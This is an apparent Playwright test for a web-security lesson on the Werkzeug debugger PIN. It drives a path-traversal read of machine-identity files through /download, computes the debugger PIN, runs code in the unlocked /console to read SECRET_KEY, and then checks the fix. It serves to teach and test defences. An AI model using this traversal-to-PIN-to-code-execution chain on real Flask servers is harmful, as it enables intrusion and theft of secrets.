/**
 * Lesson 08 as a learner walks it: read the machine's facts through /download in the terminal,
 * compute the PIN with `werkzeug-pin`, unlock the debugger's console in the preview and run code in
 * the server; then the fix closes both links and Check turns green.
 */
import { expect, test, type Page } from '@playwright/test';
import {
  check,
  expectTerminalToShow,
  lessonFile,
  openLesson,
  runAndWaitForServing,
  setEditorContent,
  terminalText,
  typeInTerminal,
  waitForPython,
} from './helpers';

const LESSON_8 = '08-debugger-pin';
const SECRET = 'a-long-random-value-from-the-secret-store';
const UP = '../../../../../../';

const frame = (page: Page) => page.frameLocator('[data-testid=preview-frame]');

async function visit(page: Page, path: string): Promise<void> {
  await page.getByTestId('preview-path').fill(path);
  await page.getByTestId('preview-go').click();
  await expect(page.getByTestId('preview-path')).toHaveValue(path);
}

/** The first match of `pattern` in what the terminal shows after `marker` (the latest curl's output). */
function after(text: string, marker: string, pattern: RegExp): string {
  const tail = text.slice(text.lastIndexOf(marker));
  const match = pattern.exec(tail);
  expect(match, `${pattern} after ${marker}`).not.toBeNull();
  return match![1]!;
}

test('lesson 8: the PIN computed from files read through the hole, the console unlocked, code run; then closed', async ({
  page,
}) => {
  // Every request and console line goes through Python; a loaded 2-core machine needs the room.
  test.setTimeout(300_000);
  await openLesson(page, LESSON_8);
  await waitForPython(page);
  await runAndWaitForServing(page);

  const facts: Record<string, string> = {};
  await test.step('read the facts through /download in the terminal', async () => {
    for (const file of ['etc/machine-id', 'proc/self/cgroup', 'sys/class/net/eth0/address', 'proc/self/status']) {
      await typeInTerminal(page, `curl '/download?name=${UP}${file}'`);
    }
    await expectTerminalToShow(page, [/Uid:\s+0/]);
    const text = await terminalText(page);
    facts.machineId = after(text, `${UP}etc/machine-id`, /\b([0-9a-f]{32})\b/);
    facts.cgroup = after(text, `${UP}proc/self/cgroup`, /(\d+::\/\S+)/);
    facts.mac = after(text, `${UP}sys/class/net/eth0/address`, /\b((?:[0-9a-f]{2}:){5}[0-9a-f]{2})\b/);
    expect(after(text, `${UP}proc/self/status`, /Uid:\s+(\d+)/)).toBe('0');
  });

  await test.step("the traceback page gives flask/app.py's path", async () => {
    await visit(page, '/orders/abc');
    await expect(page.getByTestId('preview-status')).toContainText('500');
    const files = await frame(page).locator('cite.filename').allTextContents();
    const flaskApp = files.map((name) => name.replace(/^"|"$/g, '')).find((name) => name.endsWith('/flask/app.py'));
    expect(flaskApp, files.join('\n')).toBeDefined();
    facts.path = flaskApp!;
  });

  let pin = '';
  await test.step('werkzeug-pin computes the PIN from them', async () => {
    // The preview's debugger page filled the log with its requests: start from a clean screen.
    await typeInTerminal(page, 'clear');
    // Inserted at once, as a paste does: the line editor redraws a typed line on every key, and a
    // line this long wraps.
    await page.getByTestId('terminal').click();
    await page.keyboard.insertText(
      `werkzeug-pin --user root --path ${facts.path} --mac ${facts.mac} --machine-id ${facts.machineId} --cgroup '${facts.cgroup}'`,
    );
    await page.keyboard.press('Enter');
    const text = await expectTerminalToShow(page, [/PIN: \d{3}-\d{3}-\d{3}/]);
    pin = /PIN: (\d{3}-\d{3}-\d{3})/.exec(text)![1]!;
  });

  await test.step('the console in the preview takes the PIN and runs code in the server', async () => {
    await visit(page, '/console');
    await expect(page.getByTestId('preview-status')).toContainText('200');
    const console = frame(page);
    await expect(console.locator('.pin-prompt')).toBeVisible();
    // Asking for the prompt logged the PIN on the server (printpin): the same one the facts gave.
    await expectTerminalToShow(page, [`Debugger pin code: ${pin}`]);
    await console.locator('.pin-prompt input[name=pin]').fill(pin);
    await console.getByRole('button', { name: 'Confirm Pin' }).click();
    await expect(console.locator('.pin-prompt')).toBeHidden();
    const input = console.locator('pre.console input').last();
    await input.fill('__import__("os").environ["SECRET_KEY"]');
    await input.press('Enter');
    await expect(console.locator('pre.console .output').last()).toContainText(SECRET);
  });

  await test.step("the lesson's fix closes both links: Check is green, /console is gone", async () => {
    await setEditorContent(page, LESSON_8, 'wsgi.py', lessonFile(LESSON_8, 'solution/wsgi.py'));
    await setEditorContent(page, LESSON_8, 'app.py', lessonFile(LESSON_8, 'solution/app.py'));
    await check(page);
    await expect(page.getByTestId('check-chain-broken')).toHaveAttribute('data-passed', 'true');
    await expect(page.locator('[data-testid=checks-panel] li[data-passed=false]')).toHaveCount(0);
    await runAndWaitForServing(page);
    await visit(page, '/console');
    await expect(page.getByTestId('preview-status')).toContainText('404');
  });
});
